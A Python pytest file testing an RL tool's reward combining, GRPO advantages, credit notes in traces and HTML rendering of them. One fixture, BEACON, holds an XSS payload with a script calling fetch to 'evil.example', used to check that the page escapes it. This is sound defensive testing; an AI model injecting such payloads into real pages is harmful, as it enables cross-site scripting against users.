"""The credit report: what a trace tells of rewards and advantages, and how the page shows it."""

import dataclasses
import re

import numpy as np
import pytest
from recipe_gradients import small
from sample_episode import sample_records
from vtool.demos.credit import credit_view, step_credits
from vtool.demos.credit_markup import shade
from vtool.demos.page import Section, render_page
from vtool.demos.steps import view_record
from vtool.demos.view import find_trace, page_of_trace
from vtool.rl.other_weightings import OtherSpec, all_options, other_weightings
from vtool.rl.train import train

from vtool.combine import hierarchy, weighted
from vtool.credit_note import NOTE, CreditNote, OtherWeighting, SegmentCredit, read_note
from vtool.errors import RecipeError, TraceError, UnknownName
from vtool.message import Author
from vtool.reward import Score, Unscored, choose
from vtool.trace import read_trace, write_trace


def test_what_each_part_adds_to_a_hierarchy():
    combine = hierarchy(process={"evidence": {"iou": 3.0, "seen": 1.0}, "economy": {"calls": 1.0}})
    score = combine({"format": 1.0, "answer": 1.0, "iou": 0.4, "seen": 1.0, "calls": 0.5})
    # Halves: evidence (3 x .4 + 1) / 4 = .55, economy .5; the level is .5 x (.55 + .5) / 2 high.
    assert score.total == pytest.approx(0.1 + 1.0 + 0.5 * (0.55 + 0.5) / 2)
    assert score.terms == pytest.approx(
        {"format": 0.1, "answer": 1.0, "iou": 0.075, "seen": 0.0625, "calls": 0.125}
    )
    assert sum(score.terms.values()) == pytest.approx(score.total)
    lost = combine({"format": 0.0, "answer": 1.0, "iou": 1.0, "seen": 1.0, "calls": 1.0})
    assert (lost.total, lost.terms) == (0.0, {"format": 0.0})
    none = combine({"format": 1.0, "answer": 0.0, "iou": None, "seen": None, "calls": 1.0})
    assert none.terms == pytest.approx({"format": 0.1, "answer": 0.0, "calls": 0.5})


def test_other_weightings_take_one_part_out_at_a_time():
    names = ("format", "answer", "evidence_iou", "economy")
    parts = [choose(n) for n in names]
    options = {"process": {"evidence_iou": 1.0, "economy": 1.0}}
    named = {"mine": OtherSpec("weighted", {"weights": {"answer": 2.0}})}
    found = other_weightings("hierarchy", options, parts, "answer", named)
    assert list(found) == ["answer alone", "without evidence_iou", "without economy", "mine"]
    marks = {"format": 1.0, "answer": 1.0, "evidence_iou": 0.2, "economy": 0.8}
    totals = {name: combine(marks).total for name, combine in found.items()}
    assert totals == pytest.approx(
        {"answer alone": 1.0, "without evidence_iou": 1.5, "without economy": 1.2, "mine": 2.0}
    )
    assert all_options("hierarchy", options)["share"] == 0.5


@pytest.mark.parametrize(
    ("spec", "error", "said"),
    [
        (OtherSpec("weightd"), UnknownName, "did you mean 'weighted'"),
        (OtherSpec("weighted", {"weights": {"anser": 1.0}}), RecipeError, "reward.others.mine"),
        (OtherSpec("weighted", {"wieghts": {}}), RecipeError, "combine 'weighted'"),
    ],
)
def test_another_weighting_that_does_not_fit_is_refused(spec, error, said):
    with pytest.raises(error, match=said):
        other_weightings(
            "weighted", {"weights": {"answer": 1.0}}, [choose("answer")], "", {"mine": spec}
        )


@pytest.fixture(scope="module")
def run(tmp_path_factory):
    out = tmp_path_factory.mktemp("credit")
    recipe = dataclasses.replace(
        small("zoom", ("trace_every=1", "sampling.temperature=1.5")), steps=2
    )
    train(recipe, out)
    return out


def test_a_trained_step_tells_its_advantages(run):
    """GRPO's own formula gives the advantages that the trace tells, and those of the others."""
    records = list(read_trace(find_trace(run)))
    assert len(records) == 24
    seen = 0
    for start in range(0, 24, 6):
        notes = [read_note(r.episode, r.meta) for r in records[start : start + 6]]
        assert {n.group for n in notes} == {start // 6}
        totals = np.array([r.score.total for r in records[start : start + 6]])
        wanted = (totals - totals.mean()) / (totals.std(ddof=1) + 1e-6)
        told = [{g.advantage for row in n.given for g in row if g is not None} for n in notes]
        assert [len(t) for t in told] == [1] * 6
        np.testing.assert_allclose([t.pop() for t in told], wanted, atol=1e-4)
        seen += totals.std() > 0
        alone = np.array(
            [next(o.total for o in n.others if o.name == "answer alone") for n in notes]
        )
        marks = [r.score.parts["answer"] for r in records[start : start + 6]]
        np.testing.assert_allclose(alone, marks)
        again = (alone - alone.mean()) / (alone.std(ddof=1) + 1e-6)
        other = [next(o for o in n.others if o.name == "answer alone").advantages for n in notes]
        first = [next(v for row in rows for v in row if v is not None) for rows in other]
        np.testing.assert_allclose(first, again, atol=1e-4)
    assert seen
    for record in records:
        note = read_note(record.episode, record.meta)
        assert sum(record.score.terms.values()) == pytest.approx(record.score.total)
        for context, row in zip(record.episode.contexts, note.given, strict=True):
            learnt = [s.author is Author.POLICY for s in context.segments[context.shared :]]
            assert [g is not None for g in row] == learnt


def test_the_page_of_a_run_shows_the_last_step(run):
    assert find_trace(run).name == "step-000002"
    page = page_of_trace(run, limit=3)
    assert page.count("How it was scored, and what it taught") == 3
    for told in ("step-000002", "advantage: grpo", "without economy", "as trained", "credit "):
        assert told in page


def noted(record, given, others=()):
    note = CreditNote(
        group=0,
        combine="weighted",
        options={"weights": {"answer": 1.0}},
        outcome="answer",
        rule="grpo",
        given=given,
        others=others,
    )
    meta = {**record.meta, NOTE: note.model_dump(mode="json", exclude_defaults=True)}
    return dataclasses.replace(record, meta=meta)


BEACON = '<img src=x onerror=alert(1)>"><script>fetch("//evil.example")</script>'


def test_tokens_are_told_one_by_one_and_nothing_in_them_is_markup():
    right = sample_records()[0]
    turns = [s for s in right.episode.contexts[0].segments if s.author is Author.POLICY]
    values = tuple(np.linspace(-1, 1, len(turns[0])).tolist())
    pieces = (BEACON, *("\u202etok" for _ in values[1:]))
    given = (
        (None, SegmentCredit(advantage=values, pieces=pieces), None, SegmentCredit(advantage=0.5)),
    )
    other = OtherWeighting(name=BEACON, total=None, advantages=((None, 0.25, None, -0.25),))
    score = Score({**right.score.parts, BEACON: 1.0}, 1.0, terms={"answer": 1.0, BEACON: 0.0})
    record = dataclasses.replace(noted(right, given, (other,)), score=score)
    page = render_page("t", "", [Section("", "", (view_record(record),))])
    shades = re.findall(r'class="t (\w+)" title="([+-][\d.]+)"', page)
    assert len(shades) == len(values)
    assert shades[0] == ("n4", "-1.0000")
    assert shades[-1] == ("p4", "+1.0000")
    assert "credit +0.500 a token" in page
    assert "+0.250" in page
    assert "<script" not in page
    assert "<img src=x" not in page
    assert "\u202e" not in page


@pytest.mark.parametrize(
    ("share", "name"), [(0, "z"), (0.01, "p1"), (-0.3, "n2"), (0.8, "p4"), (-1, "n4")]
)
def test_shades(share, name):
    assert shade(share) == name


def test_why_nothing_was_learnt_is_said():
    right = sample_records()[0]
    masked = noted(right, ((None, None, None, None),))
    dead = noted(right, ((None, SegmentCredit(advantage=0.0), None, SegmentCredit(advantage=0.0)),))
    for record, said in ((masked, "masked"), (dead, "taught nothing")):
        note = read_note(record.episode, record.meta)
        assert said in credit_view(record.score, note).lesson
    assert credit_view(right.score, None) is None
    assert step_credits(right.episode, None) == {}


def test_terms_and_notes_come_back_and_old_traces_open(tmp_path):
    right, wrong, _ = sample_records()
    score = weighted({"answer": 2.0})(right.score.parts)
    given = ((None, SegmentCredit(advantage=0.1), None, SegmentCredit(advantage=(0.1,) * 9)),)
    record = dataclasses.replace(noted(right, given), score=score)
    write_trace(tmp_path / "trace", [record, wrong])
    new, old = read_trace(tmp_path / "trace")
    assert new.score.terms == {"answer": 2.0}
    assert read_note(new.episode, new.meta).given == given
    assert read_note(old.episode, old.meta) is None
    page = page_of_trace(tmp_path)
    assert page.count("How it was scored") == 1


@pytest.mark.parametrize(
    ("change", "said"),
    [
        ({"given": [[None, {"advantage": 0.1}]]}, "does not fit"),
        ({"rule": 3}, "rule"),
        ({"given": [[None, {"advantage": float("inf")}, None, None]]}, "cannot be read"),
        ({"more": 1}, "more"),
    ],
)
def test_a_note_that_does_not_fit_its_episode_is_refused(change, said):
    right = noted(sample_records()[0], ((None, None, None, None),))
    meta = {**right.meta, NOTE: {**right.meta[NOTE], **change}}
    with pytest.raises(TraceError, match=said):
        read_note(right.episode, meta)


def test_what_nobody_could_score_is_told_so():
    right = noted(sample_records()[0], ((None, None, None, None),))
    note = read_note(right.episode, right.meta)
    view = credit_view(Score({}, Unscored("judge away")), note)
    assert view.weightings[0].total == "unscored"
